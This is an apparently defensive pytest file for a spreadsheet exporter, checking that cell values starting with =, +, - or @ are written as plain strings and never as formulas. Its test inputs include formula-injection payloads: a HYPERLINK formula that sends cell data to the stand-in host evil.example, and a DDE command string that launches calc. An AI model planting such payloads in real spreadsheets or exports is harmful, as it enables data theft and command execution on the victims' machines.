"""Issue 16, item 8: every text cell written to .xlsx is a string, never a formula."""

from __future__ import annotations

import datetime as dt
import re
import zipfile
from decimal import Decimal
from pathlib import Path
from xml.etree import ElementTree

import polars as pl

from writeoff_analytics.export.xlsx import Sheet, xlsx_bytes

_NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
    "=1+1",
    "http://example.com/x",
]


def _workbook(tmp_path: Path) -> Path:
    frame = pl.DataFrame(
        {
            "charge_id": DANGEROUS,
            "amount": [Decimal("-1.50")] * len(DANGEROUS),
            "date_of_service": [dt.date(2026, 1, 2)] * len(DANGEROUS),
        },
        schema_overrides={"amount": pl.Decimal(18, 2)},
    )
    facts = [("Note", "=HYPERLINK(\"http://evil.example\")"), ("Receipt", "=1+1")]
    path = tmp_path / "r.xlsx"
    path.write_bytes(xlsx_bytes("=cmd|'/c calc'!A1", facts, Decimal("-9.00"), [Sheet("Lines", frame, ("amount",))]))
    return path


def _strings_in(z: zipfile.ZipFile) -> list[str]:
    root = ElementTree.fromstring(z.read("xl/sharedStrings.xml"))
    return ["".join(t.text or "" for t in si.iter(f"{{{_NS['m']}}}t")) for si in root.findall("m:si", _NS)]


def test_no_cell_of_the_workbook_is_a_formula(tmp_path: Path) -> None:
    path = _workbook(tmp_path)
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n)]
        assert len(sheets) == 2
        for name in sheets:
            xml = z.read(name).decode()
            assert "<f>" not in xml and "<f " not in xml, name
            assert "hyperlink" not in xml.lower(), name
        assert "xl/worksheets/_rels/sheet2.xml.rels" not in z.namelist()  # no link was made
        strings = _strings_in(z)
    for text in [*DANGEROUS, "=cmd|'/c calc'!A1", '=HYPERLINK("http://evil.example")', "=1+1"]:
        assert text in strings


def test_dangerous_ids_are_string_cells_and_money_stays_a_number(tmp_path: Path) -> None:
    path = _workbook(tmp_path)
    with zipfile.ZipFile(path) as z:
        strings = _strings_in(z)
        root = ElementTree.fromstring(z.read("xl/worksheets/sheet2.xml"))
    cells = {c.get("r"): c for c in root.iter(f"{{{_NS['m']}}}c")}
    for row, text in enumerate(DANGEROUS, start=2):
        cell = cells[f"A{row}"]
        assert cell.get("t") == "s"  # a shared string
        value = cell.find("m:v", _NS)
        assert value is not None and value.text is not None
        assert strings[int(value.text)] == text
        amount = cells[f"B{row}"]
        assert amount.get("t") is None  # a number
        number = amount.find("m:v", _NS)
        assert number is not None and Decimal(number.text or "") == Decimal("-1.5")
    back = pl.read_excel(path, sheet_name="Lines")
    assert back.get_column("charge_id").to_list() == DANGEROUS
